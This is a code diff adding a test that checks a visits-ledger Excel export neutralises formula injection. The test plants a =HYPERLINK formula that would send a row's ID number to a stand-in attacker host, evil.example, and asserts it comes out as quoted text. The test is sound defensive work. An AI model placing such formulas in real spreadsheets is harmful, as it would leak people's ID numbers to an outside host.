@@ -346,6 +346,25 @@ def test_id_numbers_are_masked_unless_the_role_may_see_them_and_the_audit_says_w
     )  # fmt: skip
 
 
+def test_a_formula_typed_into_a_visit_is_plain_text_in_the_ledger(login, client, tmp_path):
+    """Formula injection: notes saved as =HYPERLINK(...) (which would send the row's ID number on one click) come
+    out of the visits ledger as the text typed, stored as text with the quote prefix."""
+    user = login("township01")
+    link = '=HYPERLINK("http://evil.example/?id="&G4,"详情")'
+    visit = Visit.objects.visible_to(user).order_by("visited_on", "pk").first()
+    Visit.objects.filter(pk=visit.pk).update(notes=link, needs="-1")
+    _record, content = export(client, "L-04")
+    path = tmp_path / "l04.xlsx"
+    path.write_bytes(content)
+    sheet = load_workbook(path).worksheets[0]
+    header = [c.value for c in sheet[HEADER_ROWS]]
+    cells = [row for row in sheet.iter_rows(min_row=HEADER_ROWS + 1) if row[header.index("走访情况")].value == link]
+    assert len(cells) == 1
+    for name, text in (("走访情况", link), ("群众诉求", "-1")):
+        cell = cells[0][header.index(name)]
+        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
+
+
 def test_a_township_exports_its_township_only_and_filters_narrow_the_rows(login, client):
     user = login("township01")
     _record, content = export(client, "L-01")
